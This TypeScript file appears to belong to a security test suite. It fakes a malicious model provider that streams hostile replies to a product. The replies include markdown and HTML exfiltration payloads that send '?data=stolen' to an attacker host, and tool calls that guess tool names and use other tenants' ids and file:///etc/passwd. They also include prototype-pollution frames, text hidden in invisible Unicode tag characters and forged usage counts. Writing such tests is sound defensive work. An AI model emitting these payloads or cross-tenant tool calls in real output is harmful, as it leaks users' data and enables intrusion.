import type { ServerResponse } from 'node:http';
import {
  begin,
  citationDelta,
  closeBlock,
  delta,
  end,
  frame,
  openBlock,
  textBlock,
  toolBlock,
} from './frames';
import type { RecordedCall } from './recorded-call';
import { inputFor } from './tool-input';

/** What the attacker's model knows when it answers. */
export interface Knowledge {
  call: RecordedCall;
  /** Every id that it has seen in anybody's call, and those that the attacker learnt elsewhere. */
  ids: string[];
  /** Another host of the attacker, where nothing may arrive. */
  elsewhere: string;
  /** Resolves when the suite lets the model go on, or nobody listens any more. */
  released: Promise<void>;
}

export type Behaviour = (response: ServerResponse, knowledge: Knowledge) => void;

/** Said by a provider that wants its own words shown. */
export const PROVIDER_WORDS = 'words-of-the-provider';

const GUESSED_TOOLS = ['search_documents', 'read_document', 'fetch_url', 'run_sql', 'list_tenants'];
const MANY_IDS = 200;
const ENDLESS_PAUSE_MS = 5;

function streaming(write: (knowledge: Knowledge) => string): Behaviour {
  return (response, knowledge) => {
    response.writeHead(200, { 'content-type': 'text/event-stream; charset=utf-8' });
    response.end(write(knowledge));
  };
}

/** The stream, with one thing wrong in it. */
function malformed(...wrong: string[]): Behaviour {
  return streaming(() => begin() + textBlock(0, 'before ') + wrong.join('') + end());
}

/** Everything it was given, every tool with every id, and citations of what it was not given. */
const echo = streaming(({ call, ids }) => {
  const names = [...call.tools, ...GUESSED_TOOLS];
  const some = ids.slice(-MANY_IDS);
  return [
    begin(),
    textBlock(0, call.body),
    openBlock(1, { type: 'text', text: '' }),
    delta(1, { type: 'text_delta', text: 'cited' }),
    ...citationsOf(call, some),
    closeBlock(1),
    ...names.map((name, at) =>
      toolBlock(at + 2, name, {
        id: some[at],
        ids: some,
        tenantId: some[0],
        url: 'file:///etc/passwd',
      }),
    ),
    end(),
  ].join('');
});

function citationsOf(call: RecordedCall, ids: string[]): string[] {
  const places = [
    0,
    call.searchResults - 1,
    call.searchResults,
    -1,
    1_000,
    0.5,
    '0',
    null,
    '__proto__',
  ];
  const honest = places.map((place) => citationDelta(1, citation(place, 0, 1, 'honest')));
  const wide = [-1, 0, 1_000_000].flatMap((start) =>
    [0, 1_000_000, -5, 'length'].map((stop) => citationDelta(1, citation(0, start, stop, 'wide'))),
  );
  return [
    ...honest,
    ...wide,
    ...ids.slice(0, 20).map((id) => citationDelta(1, citation(0, 0, 1, id))),
  ];
}

function citation(place: unknown, start: unknown, stop: unknown, source: string) {
  return {
    search_result_index: place,
    start_block_index: start,
    end_block_index: stop,
    cited_text: 'a sentence that no document holds',
    source,
    title: source,
  };
}

/** Markup of every kind that a page could fetch or run, each address with data behind it. */
const rendering = streaming(({ elsewhere }) => {
  const url = (kind: string) => `${elsewhere}/${kind}?data=stolen`;
  return (
    begin() +
    textBlock(
      0,
      [
        `![a](${url('image')}) ![b][ref] [link](${url('link')}) <${url('autolink')}>`,
        `[ref]: ${url('reference')}`,
        `<img src="${url('html-image')}"><script src="${url('script')}"></script>`,
        `<svg onload="fetch('${url('svg')}')"><image href="${url('svg-image')}"/></svg>`,
        `<style>@import url(${url('css')});body{background:url(${url('css-image')})}</style>`,
        `<link rel="stylesheet" href="${url('stylesheet')}"><link rel="prefetch" href="${url('prefetch')}">`,
        `<iframe src="${url('frame')}"></iframe><object data="${url('object')}"></object>`,
        `<video src="${url('video')}" poster="${url('poster')}"></video><meta http-equiv="refresh" content="0;url=${url('refresh')}">`,
        `<form action="${url('form')}"><input name="x" autofocus onfocus="this.form.submit()"></form>`,
        `[run](javascript:fetch('${url('javascript')}')) [data](data:text/html;base64,PHNjcmlwdD4=)`,
        `\`\`\`mermaid\ngraph TD; A[<img src="${url('mermaid')}">]\n\`\`\``,
        `$$\\href{${url('math')}}{x}$$ ![c](<${url('angled')}> "t") <base href="${elsewhere}/">`,
        `| a |\n|---|\n| ![d](${url('table-image')}) |`,
        'The end of it.',
      ].join('\n\n'),
    ) +
    end()
  );
});

/** Never ends, until the product hangs up. */
const endless: Behaviour = (response) => {
  response.writeHead(200, { 'content-type': 'text/event-stream; charset=utf-8' });
  response.write(begin() + openBlock(0, { type: 'text', text: '' }));
  const timer = setInterval(
    () => response.write(delta(0, { type: 'text_delta', text: 'and on ' })),
    ENDLESS_PAUSE_MS,
  );
  response.on('close', () => clearInterval(timer));
};

/** What a held answer begins with, and what it says when it is let go. */
export const HELD_WORDS = { first: 'so far', last: 'and the rest' };

/** Begins, and goes on when the suite says so: with more words and a citation of the first passage. */
export const held: Behaviour = (response, { released }) => {
  const say = (text: string) => delta(0, { type: 'text_delta', text });
  response.writeHead(200, { 'content-type': 'text/event-stream; charset=utf-8' });
  response.write(begin() + openBlock(0, { type: 'text', text: '' }) + say(HELD_WORDS.first));
  void released.then(() =>
    response.end(
      say(HELD_WORDS.last) + citationDelta(0, citation(0, 0, 1, 'held')) + closeBlock(0) + end(),
    ),
  );
};

const refusal =
  (status: number): Behaviour =>
  (response) => {
    response.writeHead(status, { 'content-type': 'application/json' });
    response.end(
      JSON.stringify({ type: 'error', error: { type: 'api_error', message: PROVIDER_WORDS } }),
    );
  };

const HUGE = 2_000_000;

const CALLS_AT_ONCE = 4;

/** Calls every tool, offered or not, with ids of others, until it may not; then says all that it was given. */
const tools = streaming(({ call, ids }) => {
  const made = call.body.split('"type":"tool_result"').length - 1;
  if (call.body.includes('"tool_choice":{"type":"none"}'))
    return begin() + textBlock(0, call.body) + end();
  const names = [...call.tools, ...GUESSED_TOOLS];
  const blocks = Array.from({ length: CALLS_AT_ONCE }, (_, at) => {
    const number = made + at;
    const name = names[number % names.length] ?? '';
    return toolBlock(at, name, inputFor(name, ids.at(-1 - (number % Math.max(1, ids.length)))));
  });
  return begin() + blocks.join('') + end('tool_use');
});

/** By the name that a question asks for with `behave:NAME`; `echo` when it asks for none. */
export const BEHAVIOURS: Readonly<Record<string, Behaviour>> = {
  echo,
  tools,
  rendering,
  endless,
  'no-json': malformed('data: {"type":"content_block_delta", nothing\n\n'),
  'no-object': malformed('data: null\n\n', 'data: 7\n\n', 'data: []\n\n'),
  'unknown-event': malformed(frame({ type: 'tenant_switch', tenantId: 'all' })),
  'delta-of-nothing': malformed(delta(9, { type: 'text_delta', text: 'of no block' })),
  'text-that-is-none': malformed(
    openBlock(1, { type: 'text', text: '' }),
    ...[7, null, ['a'], { toString: 'x' }].map((text) => delta(1, { type: 'text_delta', text })),
    closeBlock(1),
  ),
  prototype: malformed(
    'event: content_block_delta\ndata: {"type":"content_block_delta","index":0,"__proto__":{"tenantId":"x","role":"owner"},"delta":{"type":"text_delta","text":"p"}}\n\n',
  ),
  'citation-of-nothing': malformed(delta(0, { type: 'citations_delta', citation: null })),
  'error-in-the-middle': malformed(
    frame({ type: 'error', error: { type: 'api_error', message: PROVIDER_WORDS } }),
  ),
  'huge-event': streaming(() => begin() + textBlock(0, 'x'.repeat(HUGE), HUGE) + end()),
  'invisible-text': streaming(
    ({ call }) => begin() + textBlock(0, [...call.body].map(hidden).join('')) + end(),
  ),
  'cut-off': streaming(() => begin() + openBlock(0, { type: 'text', text: 'and then' })),
  empty: streaming(() => ''),
  'false-usage': streaming(
    () =>
      begin({ input_tokens: -5, output_tokens: 1e300, cache_read_input_tokens: 'many' }) +
      textBlock(0, 'free of charge') +
      end('end_turn', { output_tokens: -1_000_000 }),
  ),
  'web-page': (response) => {
    response.writeHead(200, { 'content-type': 'text/html' });
    response.end(`<html><script>alert("${PROVIDER_WORDS}")</script></html>`);
  },
  redirect: (response, { elsewhere }) => {
    response.writeHead(307, { location: `${elsewhere}/v1/messages` });
    response.end();
  },
  'hang-up': (response) => {
    response.destroy();
  },
  'bad-request': refusal(400),
  overloaded: refusal(529),
  failing: refusal(500),
};

/** As the characters of Unicode's tag block, which no page shows. */
function hidden(character: string): string {
  const code = character.codePointAt(0) ?? 0;
  return code < 0x7f ? String.fromCodePoint(0xe0000 + code) : character;
}
